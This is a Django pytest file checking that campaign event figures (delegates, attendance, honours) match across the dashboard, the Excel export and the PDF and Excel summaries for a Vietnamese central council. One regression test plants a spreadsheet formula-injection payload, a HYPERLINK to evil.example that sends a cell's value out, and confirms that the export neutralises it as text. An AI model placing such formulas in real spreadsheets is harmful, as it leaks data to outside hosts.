"""One definition per figure: every page and document shows the same number under the same label."""

import io
import re
import uuid
from datetime import date

import pytest
from django.urls import reverse
from freezegun import freeze_time
from openpyxl import load_workbook

from congresses.models import Event
from congresses.selectors import campaign_tiers
from honors.models import AwardDecision, AwardType, Exemplar, Honour
from oversight import selectors
from oversight.exporters import SUMMARY_HEADER_ROW
from oversight.models import ResultReport
from tests.factories import EventFactory
from tests.reports import pdf_text
from units.models import Unit

from .conftest import add_delegates

pytestmark = pytest.mark.django_db


def _honour(event, award, name: str) -> None:
    exemplar = Exemplar.objects.create(unit=event.unit, kind="individual", name=name, field="Y tế",
                                       achievements="Tốt")  # fmt: skip
    decision = AwardDecision.objects.get_or_create(
        event=event, number="1/QĐ",
        defaults={"authority": "commune_chair", "issuer": "Chủ tịch UBND", "date": date(2025, 1, 1),
                  "place": "Bắc Kạn", "signer": "Chủ tịch"},
    )[0]  # fmt: skip
    Honour.objects.create(event=event, exemplar=exemplar, award_type=award, decision=decision)


def _report(event, **numbers) -> None:
    ResultReport.objects.create(event=event, held_on=event.date, achievements="Tốt.", **numbers)


@pytest.fixture
def campaign_data(campaign, units):
    """Rosters, results reports and honours that disagree on purpose, in two tiers."""
    award = AwardType.objects.create(name="Giấy khen", kind="form", recipient="both", level=1, grantor="UBND")
    chora = EventFactory(
        unit=units["chora"], campaign=campaign, status=Event.Status.REPORTED, date=date(2025, 2, 3)
    )
    add_delegates(chora, exemplars=3, others=1, women=2)
    _report(chora, attended_exemplar_individuals=3, attended_exemplar_collectives=1, attended_leaders=2,
            attended_guests=5, exemplars_honoured=2)  # fmt: skip
    _honour(chora, award, "Hà Văn A")
    songcau = EventFactory(
        unit=units["songcau"], campaign=campaign, status=Event.Status.REPORTED, date=date(2025, 2, 10)
    )
    add_delegates(songcau, exemplars=8, others=2)
    _report(songcau, attended_exemplar_individuals=7, attended_guests=1, exemplars_honoured=4)
    babe = EventFactory(
        unit=units["babe"], campaign=campaign, status=Event.Status.REPORTED, date=date(2025, 4, 20)
    )
    add_delegates(babe, exemplars=6, others=1)
    _report(babe, attended_exemplar_individuals=6, exemplars_honoured=3, delegation_approved=5)
    _honour(babe, award, "Lý Thị B")
    _honour(babe, award, "Nông Văn C")
    nari = EventFactory(
        unit=units["nari"], campaign=campaign, status=Event.Status.HELD, date=date(2025, 4, 22)
    )
    add_delegates(nari, exemplars=2, others=0)
    city = EventFactory(
        unit=units["city"], campaign=campaign, status=Event.Status.PLANNED, date=date(2025, 5, 20)
    )
    add_delegates(city, exemplars=9, others=3)
    return campaign


EXPECTED = {
    "events_registered": 5,
    "events_held": 4,
    "events_reported": 3,
    "events_awaiting_report": 1,
    "delegates_registered": 4 + 10 + 7 + 2 + 12,
    "delegates_at_held_events": 4 + 10 + 7 + 2,
    "attended": 11 + 8 + 6,
    "exemplars_attended": 4 + 7 + 6,
    "exemplars_honoured": 2 + 4 + 3,
    "honours_recorded": 3,
    "delegation_approved": 5,
}


def test_it_counts_each_figure_from_its_own_source(campaign_data, units):
    figures = selectors.campaign_figures(campaign=campaign_data, tiers=campaign_tiers(campaign=campaign_data))
    assert {f.code: f.value for f in figures.total.figures} == EXPECTED
    by_tier = {s.label: s.by_code for s in figures.by_tier}
    commune, district = by_tier["Cấp xã, phường, thị trấn"], by_tier["Cấp huyện, thành phố"]
    assert (
        commune["events_reported"].value,
        commune["attended"].value,
        commune["honours_recorded"].value,
    ) == (2, 19, 1)
    assert (district["events_held"].value, district["delegates_registered"].value) == (2, 7 + 2 + 12)
    assert district["delegates_at_held_events"].value == 9 and district["delegation_approved"].value == 5
    babe = selectors.campaign_figures(
        campaign=campaign_data, tiers=campaign_tiers(campaign=campaign_data), area_id=units["babe"].pk
    ).total.by_code
    assert (babe["events_registered"].value, babe["attended"].value, babe["exemplars_honoured"].value) == (
        2,
        17,
        5,
    )
    # Every figure carries one fixed label and says what it counts.
    labels = [f.label for f in figures.total.figures]
    assert len(set(labels)) == len(labels) and all(f.counts for f in figures.total.figures)
    assert figures.total.by_code["delegates_registered"].shown == "35"


def test_it_reads_the_figures_in_four_queries_whatever_the_size(campaign, django_assert_num_queries):
    tiers = campaign_tiers(campaign=campaign)
    communes = list(Unit.objects.filter(kind__in=("commune", "ward", "town")).order_by("pk")[:25])
    award = AwardType.objects.create(name="Giấy khen", kind="form", recipient="both", level=1, grantor="UBND")

    def populate(units):
        for i, unit in enumerate(units):
            event = EventFactory(unit=unit, campaign=campaign, status=Event.Status.REPORTED)
            add_delegates(event, exemplars=5, others=2)
            _report(event, attended_guests=i)
            _honour(event, award, f"Người {unit.pk}")

    populate(communes[:2])
    with django_assert_num_queries(4):
        few = selectors.campaign_figures(campaign=campaign, tiers=tiers)
    populate(communes[2:])
    with django_assert_num_queries(4):
        many = selectors.campaign_figures(campaign=campaign, tiers=tiers)
    assert few.total.value(selectors.FIGURES[4]) == 14 and many.total.value(selectors.FIGURES[4]) == 25 * 7


def _dashboard_figures(html: str) -> dict[str, tuple[str, str]]:
    """code -> (shown value, label) of the "Số liệu chính" cards."""
    found = re.findall(
        r'data-figure="(\w+)".*?class="figure-value[^"]*">([^<]+)<.*?class="figure-label[^"]*">([^<]+)<',
        html,
        re.DOTALL,
    )
    return {code: (value.strip(), label.strip()) for code, value, label in found}


def _book(content: bytes):
    return load_workbook(io.BytesIO(content), read_only=True)


def _summary(kind, campaign, admin, django_capture_on_commit_callbacks) -> bytes:
    from reports import services

    with django_capture_on_commit_callbacks(execute=True):
        report = services.report_request(
            kind=kind, campaign=campaign, requested_by=admin, key=uuid.uuid4().hex
        )
    report.refresh_from_db()
    assert report.status == "done", report.error
    return report.file.read()


@freeze_time("2025-05-01")
def test_the_same_figure_is_equal_everywhere_with_the_same_label(
    client, admin, campaign_data, django_capture_on_commit_callbacks
):
    figures = selectors.campaign_figures(campaign=campaign_data, tiers=campaign_tiers(campaign=campaign_data))
    total = figures.total.figures
    assert {f.code: f.value for f in total} == EXPECTED
    client.force_login(admin)

    # The dashboard page: one card per figure, with its label.
    html = client.get(reverse("oversight:dashboard")).content.decode()
    assert _dashboard_figures(html) == {f.code: (f.shown, f.label) for f in total}
    for label, line in figures.table(selectors.RESULT_FIGURES):  # the results table, per tier and province
        cells = "".join(f'<td class="text-end">{f.shown}</td>' for f in line)
        assert f"<td>{label}</td>{cells}" in html
    for definition in selectors.RESULT_FIGURES:
        assert f'<th class="text-end">{definition.label}</th>' in html

    # The dashboard's Excel export of the figures.
    response = client.get(reverse("oversight:dashboard") + "?export=figures")
    rows = list(_book(response.content).worksheets[0].iter_rows(values_only=True))
    assert {r[0]: r[1] for r in rows[1:]} == {f.label: f.value for f in total}

    # The summary to the Central Council, PDF.
    text = " ".join(pdf_text.page_texts(pdf_text.read(_summary("summary_pdf", campaign_data, admin,
                                                                 django_capture_on_commit_callbacks))))  # fmt: skip
    for f in total:
        assert f"{f.label}: {f.shown}" in text, f.label

    # The summary to the Central Council, Excel: the figures sheet and the results per tier.
    book = _book(_summary("summary_xlsx", campaign_data, admin, django_capture_on_commit_callbacks))
    rows = list(book["Số liệu chính"].iter_rows(min_row=SUMMARY_HEADER_ROW, values_only=True))
    assert {r[0]: r[1] for r in rows[1:]} == {f.label: f.value for f in total}
    results = list(
        book["Kết quả theo báo cáo đơn vị"].iter_rows(min_row=SUMMARY_HEADER_ROW, values_only=True)
    )
    assert results[0] == ("Cấp", *(d.label for d in selectors.RESULT_FIGURES))
    assert results[-1] == ("Tổng cộng", *(f.value for f in figures.total.pick(selectors.RESULT_FIGURES)))
    delegates = list(book["Đại biểu và cơ cấu"].iter_rows(min_row=SUMMARY_HEADER_ROW, values_only=True))
    assert delegates[0][1] == "Đại biểu trong danh sách của sự kiện đã tổ chức"
    assert delegates[-1][1] == EXPECTED["delegates_at_held_events"]
    held = list(book["Tổ chức theo cấp"].iter_rows(min_row=SUMMARY_HEADER_ROW, values_only=True))
    assert held[0][3:5] == ("Sự kiện đã đăng ký", "Sự kiện đã tổ chức") and held[-1][3:5] == (5, 4)
    honours = list(book["Khen thưởng điển hình"].iter_rows(min_row=SUMMARY_HEADER_ROW, values_only=True))
    assert honours[0][-1] == "Lượt khen thưởng đã ghi nhận trên cổng" and honours[-1][-1] == 3


@freeze_time("2025-05-01")
def test_the_dashboard_says_what_each_delegates_and_honoured_number_counts(
    client, admin, campaign_data, django_capture_on_commit_callbacks
):
    """Written against the old dashboard: it showed 35 ("Cơ cấu đại biểu"), 25 ("Đại biểu dự"),
    3 and 9 honoured, with nothing saying that one is the rosters and the other the results reports."""
    client.force_login(admin)
    html = " ".join(client.get(reverse("oversight:dashboard")).content.decode().split())
    assert "Đại biểu trong danh sách đăng ký: 35" in html
    assert "Lượt khen thưởng đã ghi nhận trên cổng: 3" in html
    for label, value in (("Đại biểu trong danh sách đăng ký", "35"), ("Đại biểu dự (theo báo cáo kết quả)", "25"),
                         ("Điển hình được khen thưởng tại sự kiện (theo báo cáo kết quả)", "9"),
                         ("Lượt khen thưởng đã ghi nhận trên cổng", "3")):  # fmt: skip
        assert re.search(rf">{re.escape(value)}<.{{0,120}}>{re.escape(label)}<", html), label
    # and the summary to the Central Council now carries the results reports' figures, labelled
    book = _book(_summary("summary_xlsx", campaign_data, admin, django_capture_on_commit_callbacks))
    values = {
        r[0]: r[1]
        for sheet in book.worksheets
        for r in sheet.iter_rows(min_row=SUMMARY_HEADER_ROW, values_only=True)
    }
    assert values["Đại biểu dự (theo báo cáo kết quả)"] == 25
    assert values["Đại biểu được thông qua dự Đại hội cấp trên (theo báo cáo kết quả)"] == 5


def test_the_summary_workbook_keeps_a_typed_formula_as_text(
    admin, campaign_data, django_capture_on_commit_callbacks
):
    """Issue 14: a venue typed as =HYPERLINK(…) reached the Central Council's workbook as a live formula."""
    venue = '=HYPERLINK("http://evil.example/?x="&A2,"Hội trường")'
    Event.objects.filter(campaign=campaign_data).update(venue=venue)
    content = _summary("summary_xlsx", campaign_data, admin, django_capture_on_commit_callbacks)
    book = load_workbook(io.BytesIO(content))  # not read-only: each cell's data type
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert "'" + venue in {c.value for c in cells}
    assert any(isinstance(c.value, int) for c in cells)  # numbers stay numbers
